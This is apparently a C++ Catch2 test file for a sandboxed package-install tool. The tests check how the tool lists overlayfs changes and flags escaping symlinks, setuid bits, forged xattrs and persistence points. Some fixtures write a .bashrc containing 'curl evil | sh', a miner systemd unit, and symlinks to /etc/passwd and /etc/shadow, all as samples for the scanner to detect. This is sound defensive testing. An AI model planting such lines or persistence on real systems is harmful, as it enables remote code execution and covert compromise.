#include <sys/socket.h>
#include <sys/un.h>

#include <algorithm>
#include <catch2/catch.hpp>

#include "change_test_support.h"
#include "runner/fs/path_globs.h"
#include "runner/report/file_entries.h"
#include "runner/staging/change_list.h"
#include "staging_test_support.h"

using namespace safeinstall::runner;
using safeinstall::change_test::test_path;
using namespace safeinstall::staging_test;

namespace {

// A project (the overlay's lower dir) and an upper dir made by hand, as overlayfs would.
struct Staged {
  ScratchDir root{"si-changes"};
  std::string project = root / "project";
  std::string upper = root / "upper";
  Staged() {
    make_dir(project);
    make_dir(upper);
  }
  ChangeList list() {
    auto changes = list_changes(upper, project);
    REQUIRE(changes);
    return std::move(*changes);
  }
};

const Change& find(const ChangeList& list, const std::string& path) {
  const Change* c = list.find(path);
  INFO(path);
  REQUIRE(c != nullptr);
  return *c;
}

std::vector<std::string> paths_of(const ChangeList& list) {
  std::vector<std::string> paths;
  for (const auto& c : list.changes)
    paths.push_back(c.path + " " + std::string(to_string(c.change)));
  return paths;
}

}  // namespace

TEST_CASE(
    "change list: added, modified and deleted, merged directories only through their children") {
  Staged s;
  write_file(s.project + "/a.txt", "old");
  write_file(s.project + "/dir/b.txt", "b");
  write_file(s.project + "/dir/keep.txt", "k");
  write_file(s.upper + "/a.txt", "new!");
  write_file(s.upper + "/new.txt", "n");
  write_file(s.upper + "/dir/c.txt", "c");
  if (!make_whiteout(s.upper + "/dir/b.txt")) {
    WARN("mknod of a whiteout refused here; skipped");
    return;
  }
  auto list = s.list();
  CHECK(paths_of(list) == std::vector<std::string>{"a.txt modified", "dir/b.txt deleted",
                                                   "dir/c.txt added", "new.txt added"});
  const auto& a = find(list, "a.txt");
  CHECK(a.type == EntryType::file);
  CHECK(a.size == 4);
  CHECK(a.real_type == EntryType::file);
  const auto& b = find(list, "dir/b.txt");
  CHECK(b.type == EntryType::file);
  CHECK(b.replaces_real_subtree() == false);
  CHECK(list.stray_whiteouts.empty());
}

TEST_CASE("change list: an opaque directory lists what it hides as deleted, topmost only") {
  Staged s;
  write_file(s.project + "/node_modules/x/index.js", "old x");
  write_file(s.project + "/node_modules/x/old.js", "old");
  write_file(s.project + "/node_modules/y/index.js", "y");
  write_file(s.project + "/node_modules/y/lib/deep.js", "deep");
  write_file(s.project + "/node_modules/keep.txt", "k");
  if (!make_opaque(s.upper + "/node_modules")) {
    WARN("user.overlay.opaque xattr refused here; skipped");
    return;
  }
  write_file(s.upper + "/node_modules/x/index.js", "new x");
  write_file(s.upper + "/node_modules/z.js", "z");
  auto list = s.list();
  CHECK(paths_of(list) ==
        std::vector<std::string>{"node_modules modified", "node_modules/keep.txt deleted",
                                 "node_modules/x modified", "node_modules/x/index.js modified",
                                 "node_modules/x/old.js deleted", "node_modules/y deleted",
                                 "node_modules/z.js added"});
  const auto& nm = find(list, "node_modules");
  CHECK(nm.opaque);
  CHECK(nm.replaces_real_subtree());
  CHECK(std::find(nm.overlay_xattrs().begin(), nm.overlay_xattrs().end(), "user.overlay.opaque") !=
        nm.overlay_xattrs().end());
  CHECK(find(list, "node_modules/x").opaque);  // inside an opaque dir: replaced too
  CHECK(find(list, "node_modules/y").type == EntryType::dir);
}

TEST_CASE("change list: whiteouts hiding nothing are bookkeeping, not changes") {
  Staged s;
  make_dir(s.project + "/node_modules");
  if (!make_opaque(s.upper + "/node_modules") || !make_whiteout(s.upper + "/node_modules/gone") ||
      !make_whiteout(s.upper + "/never-existed")) {
    WARN("whiteouts or opaque xattrs refused here; skipped");
    return;
  }
  auto list = s.list();
  CHECK(paths_of(list) == std::vector<std::string>{"node_modules modified"});
  CHECK(list.stray_whiteouts == std::vector<std::string>{"never-existed", "node_modules/gone"});
}

TEST_CASE("change list: a directory replacing a file, and a file replacing a directory") {
  Staged s;
  write_file(s.project + "/was-file", "f");
  write_file(s.project + "/was-dir/x", "x");
  write_file(s.upper + "/was-file/inside", "i");
  write_file(s.upper + "/was-dir", "now a file");
  auto list = s.list();
  const auto& dir = find(list, "was-file");
  CHECK(dir.change == ChangeKind::modified);
  CHECK(dir.type == EntryType::dir);
  CHECK(dir.real_type == EntryType::file);
  CHECK(find(list, "was-file/inside").change == ChangeKind::added);
  const auto& file = find(list, "was-dir");
  CHECK(file.type == EntryType::file);
  CHECK(file.real_type == EntryType::dir);
  CHECK(file.replaces_real_subtree());
}

TEST_CASE("change list: a merged directory whose mode changed is listed") {
  Staged s;
  make_dir(s.project + "/bin", 0755);
  make_dir(s.upper + "/bin", 0777);
  auto list = s.list();
  REQUIRE(list.changes.size() == 1);
  CHECK(list.changes[0].path == "bin");
  CHECK(list.changes[0].change == ChangeKind::modified);
  CHECK_FALSE(list.changes[0].opaque);
}

TEST_CASE(
    "change list: flags for executables, set-id bits, hard links, special files and escaping "
    "symlinks") {
  Staged s;
  write_file(s.upper + "/node_modules/x/run.sh", "#!/bin/sh", 0755);
  write_file(s.upper + "/node_modules/x/suid", "x", 04755);
  write_file(s.upper + "/node_modules/x/sgid", "x", 02755);
  write_file(s.upper + "/node_modules/x/one", "1");
  REQUIRE(::link((s.upper + "/node_modules/x/one").c_str(),
                 (s.upper + "/node_modules/x/two").c_str()) == 0);
  REQUIRE(::mkfifo((s.upper + "/node_modules/x/pipe").c_str(), 0644) == 0);
  fs::create_symlink("../../../../etc/passwd", s.upper + "/node_modules/x/up");
  fs::create_symlink("/etc/shadow", s.upper + "/node_modules/x/abs");
  fs::create_symlink(s.project + "/package.json", s.upper + "/node_modules/x/abs-inside");
  fs::create_symlink("../x/run.sh", s.upper + "/node_modules/x/rel-inside");
  auto list = s.list();

  CHECK(find(list, "node_modules/x/run.sh").flags.executable);
  CHECK(find(list, "node_modules/x/suid").flags.setuid);
  CHECK(find(list, "node_modules/x/sgid").flags.setgid);
  CHECK(find(list, "node_modules/x/one").flags.hardlink);
  CHECK(find(list, "node_modules/x/two").flags.hardlink);
  const auto& pipe = find(list, "node_modules/x/pipe");
  CHECK(pipe.flags.special_file);
  CHECK(pipe.type == EntryType::special);
  CHECK(find(list, "node_modules/x/up").flags.symlink_escape);
  CHECK(find(list, "node_modules/x/abs").flags.symlink_escape);
  const auto& abs_inside = find(list, "node_modules/x/abs-inside");
  CHECK_FALSE(abs_inside.flags.symlink_escape);
  CHECK(abs_inside.symlink_resolves_to() == "package.json");
  const auto& rel = find(list, "node_modules/x/rel-inside");
  CHECK_FALSE(rel.flags.symlink_escape);
  CHECK(rel.symlink_resolves_to() == "node_modules/x/run.sh");
  CHECK(rel.symlink_target() == "../x/run.sh");
  // A directory's set-gid bit is group inheritance, not a privilege: not flagged.
  CHECK_FALSE(find(list, "node_modules").flags.setgid);
}

TEST_CASE("change list: a socket is a special file") {
  Staged s;
  make_dir(s.upper + "/run");
  int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  REQUIRE(fd >= 0);
  struct sockaddr_un addr {};
  addr.sun_family = AF_UNIX;
  std::string path = s.upper + "/run/sock";
  REQUIRE(path.size() < sizeof addr.sun_path);
  std::copy(path.begin(), path.end(), addr.sun_path);
  REQUIRE(::bind(fd, reinterpret_cast<struct sockaddr*>(&addr), sizeof addr) == 0);
  ::close(fd);
  auto list = s.list();
  CHECK(find(list, "run/sock").flags.special_file);
}

TEST_CASE("change list: lexical symlink resolution") {
  const std::string project = "/home/u/p";
  CHECK(resolve_symlink_in_project("a/b/link", "c", project) == "a/b/c");
  CHECK(resolve_symlink_in_project("a/b/link", "../c", project) == "a/c");
  CHECK(resolve_symlink_in_project("a/b/link", "../../c", project) == "c");
  CHECK(resolve_symlink_in_project("a/b/link", "../..", project) == "");
  CHECK_FALSE(resolve_symlink_in_project("a/b/link", "../../../c", project));
  CHECK_FALSE(resolve_symlink_in_project("link", "..", project));
  CHECK(resolve_symlink_in_project("a/link", "./x/./y", project) == "a/x/y");
  CHECK_FALSE(resolve_symlink_in_project("a/link", "x/../../../p/y", project));
  CHECK(resolve_symlink_in_project("a/link", "/home/u/p/x", project) == "x");
  CHECK(resolve_symlink_in_project("a/link", "/home/u/p", project) == "");
  CHECK(resolve_symlink_in_project("a/link", "/home/u/q/../p/x", project) == "x");
  CHECK_FALSE(resolve_symlink_in_project("a/link", "/home/u/pp/x", project));
  CHECK_FALSE(resolve_symlink_in_project("a/link", "/home/u/p/../secret", project));
  CHECK_FALSE(resolve_symlink_in_project("a/link", "/etc/passwd", project));
  CHECK_FALSE(resolve_symlink_in_project("a/link", "", project));
}

TEST_CASE("change list: redirect and metacopy xattrs are refused, not misread") {
  Staged s;
  make_dir(s.project + "/moved");
  make_dir(s.upper + "/moved");
  if (::setxattr((s.upper + "/moved").c_str(), "user.overlay.redirect", "/elsewhere", 10, 0) != 0) {
    WARN("user.overlay xattrs refused here; skipped");
    return;
  }
  auto list = list_changes(s.upper, s.project);
  REQUIRE_FALSE(list);
  CHECK(list.error().step.find("user.overlay.redirect") != std::string::npos);
  CHECK(list.error().hint.find("redirect_dir=off") != std::string::npos);
}

TEST_CASE(
    "change list: the command's xattrs are kept per change - overlay names in a direct dir "
    "are forged, never read") {
  Staged s;
  write_file(s.upper + "/notes.txt", "n", 0666);
  make_dir(s.upper + "/node_modules/a");
  write_file(s.upper + "/node_modules/a/index.js", "a");
  auto set = [](const std::string& path, const char* name) {
    return ::lsetxattr(path.c_str(), name, "y", 1, 0) == 0;
  };
  if (!set(s.upper + "/notes.txt", "user.origin") ||
      !set(s.upper + "/node_modules/a", "user.overlay.redirect") ||
      !set(s.upper + "/node_modules/a/index.js", "user.overlay.opaque")) {
    WARN("user xattrs refused here; skipped");
    return;
  }
  auto list = list_changes(s.upper, s.project, {}, {"node_modules"});
  REQUIRE(list);
  const Change* notes = list->find("notes.txt");
  REQUIRE(notes != nullptr);
  CHECK(notes->flags.foreign_xattrs);
  CHECK(notes->flags.world_writable);
  CHECK_FALSE(notes->flags.forged_overlay);
  CHECK(notes->foreign_xattrs() == std::vector<std::string>{"user.origin"});
  const Change* dir = list->find("node_modules/a");
  REQUIRE(dir != nullptr);
  CHECK(dir->flags.forged_overlay);  // a redirect, listed instead of refused
  CHECK(dir->foreign_xattrs() == std::vector<std::string>{"user.overlay.redirect"});
  CHECK(dir->overlay_xattrs().empty());
  CHECK(list->find("node_modules/a/index.js")->flags.forged_overlay);
  // The same tree outside a direct dir is overlay bookkeeping, and a redirect is refused.
  CHECK_FALSE(list_changes(s.upper, s.project));
}

TEST_CASE("change list: more changes than the limit is an error, not a partial list") {
  Staged s;
  for (int i = 0; i < 10; ++i) write_file(s.upper + "/f" + std::to_string(i), "x");
  ChangeListLimits limits;
  limits.max_changes = 5;
  auto list = list_changes(s.upper, s.project, limits);
  REQUIRE_FALSE(list);
  CHECK(list.error().step.find("more than 5 changes") != std::string::npos);
}

TEST_CASE("change list: JSON in the report's files.project shape") {
  Staged s;
  write_file(s.upper + "/node_modules/.bin/x", "#!", 0755);
  fs::create_symlink("/etc/passwd", s.upper + "/evil");
  auto list = s.list();
  auto json = to_json(list);
  REQUIRE(json.is_array());
  REQUIRE(json.size() == 4);  // evil, node_modules, node_modules/.bin, node_modules/.bin/x
  auto bin = json.at(3);
  CHECK(bin["path"] == "node_modules/.bin/x");
  CHECK(bin["change"] == "added");
  CHECK(bin["type"] == "file");
  CHECK(bin["mode"] == "0755");
  CHECK(bin["size"] == 2);
  CHECK(bin["flags"] == nlohmann::json::array({"executable"}));
  CHECK_FALSE(bin.contains("category"));
  auto evil = json.at(0);
  CHECK(evil["type"] == "symlink");
  CHECK(evil["target"] == "/etc/passwd");
  CHECK(evil["flags"] == nlohmann::json::array({"symlink-escape"}));

  list.changes[0].category = Category::unexpected;
  CHECK(to_json(list.changes[0])["category"] == "unexpected");
}

TEST_CASE("change list: written home trees flag persistence points") {
  ScratchDir home("si-home");
  write_file(home / ".bashrc", "curl evil | sh");
  write_file(home / ".config/systemd/user/miner.service", "[Service]");
  write_file(home / ".cache/npm/x", "cache");
  write_file(home / "bin/tool", "#!", 0755);
  fs::create_symlink("/etc/passwd", home / "link");
  auto list = walk_written_tree(home.path(), &persistence_paths());
  REQUIRE(list);
  CHECK(find(*list, ".bashrc").flags.persistence);
  CHECK(find(*list, ".config/systemd/user/miner.service").flags.persistence);
  CHECK(find(*list, ".config/systemd/user").flags.persistence);
  CHECK_FALSE(find(*list, ".cache/npm/x").flags.persistence);
  CHECK(find(*list, "bin/tool").flags.executable);
  CHECK(find(*list, "link").symlink_target() == "/etc/passwd");
  CHECK(find(*list, "link").type == EntryType::symlink);
  for (const auto& c : list->changes) CHECK(c.change == ChangeKind::added);
  auto json = to_json(find(*list, ".bashrc"));
  CHECK(json["flags"] == nlohmann::json::array({"persistence"}));
}

TEST_CASE("change list: listing stops with an error once --timeout has expired") {
  Staged s;
  write_file(s.upper + "/node_modules/x/index.js", "x");
  ChangeListLimits limits;
  limits.deadline = Deadline::after(std::chrono::milliseconds(0));
  auto stopped = list_changes(s.upper, s.project, limits);
  REQUIRE_FALSE(stopped);
  CHECK(stopped.error().message().find("--timeout expired") != std::string::npos);
  // Without a deadline, or before it, the same upper dir is listed.
  limits.deadline = Deadline::after(std::chrono::hours(1));
  auto listed = list_changes(s.upper, s.project, limits);
  REQUIRE(listed);
  CHECK(listed->find("node_modules/x/index.js") != nullptr);
}

TEST_CASE("change list: a copied change owns its details, and editing one leaves the other") {
  Change original;
  original.path = test_path("node_modules/.bin/x");
  original.edit_details().symlink_target = "../x/cli.js";
  original.edit_details().foreign_xattrs = {"user.mark"};
  Change copy = original;
  copy.edit_details().symlink_target = "../y/cli.js";
  CHECK(original.symlink_target() == "../x/cli.js");
  CHECK(copy.symlink_target() == "../y/cli.js");
  CHECK(copy.foreign_xattrs() == std::vector<std::string>{"user.mark"});
  copy = original;
  CHECK(copy.symlink_target() == "../x/cli.js");
  Change moved = std::move(copy);
  CHECK(moved.symlink_target() == "../x/cli.js");
  Change plain;
  CHECK(plain.symlink_target().empty());
  CHECK_FALSE(plain.symlink_resolves_to().has_value());
  plain = original;
  CHECK(plain.foreign_xattrs().size() == 1);
}

TEST_CASE("change list: paths live in the list's arena, and moving the list keeps them") {
  Staged s;
  std::size_t text = 0;
  for (int d = 0; d < 30; ++d) {
    for (int f = 0; f < 40; ++f) {
      std::string path =
          "node_modules/package-" + std::to_string(d) + "/lib/file-" + std::to_string(f) + ".js";
      write_file(s.upper + "/" + path, "x");
      text += path.size() + 1;
    }
    text += ("node_modules/package-" + std::to_string(d)).size() + 1 +
            ("node_modules/package-" + std::to_string(d) + "/lib").size() + 1;
  }
  text += std::string("node_modules").size() + 1;
  auto list = s.list();
  REQUIRE(list.changes.size() == 1 + 30 * 42);
  // Each path's characters and a NUL, once, and nothing else: no string per change.
  CHECK(list.paths.used() == text);
  ChangeList moved = std::move(list);
  CHECK(std::is_sorted(moved.changes.begin(), moved.changes.end(),
                       [](const Change& a, const Change& b) { return a.path < b.path; }));
  CHECK(find(moved, "node_modules/package-7/lib/file-39.js").type == EntryType::file);
  CHECK(moved.changes.front().path == "node_modules");
}

TEST_CASE("change list: a change added by hand keeps its path in the list") {
  ChangeList list;
  std::string path = "dist/app.js";
  Change& change = list.add(path);
  path = "overwritten";
  CHECK(change.path == "dist/app.js");
  CHECK(list.find("dist/app.js") == &list.changes.front());
  CHECK(list.paths.used() == std::string("dist/app.js").size() + 1);
}
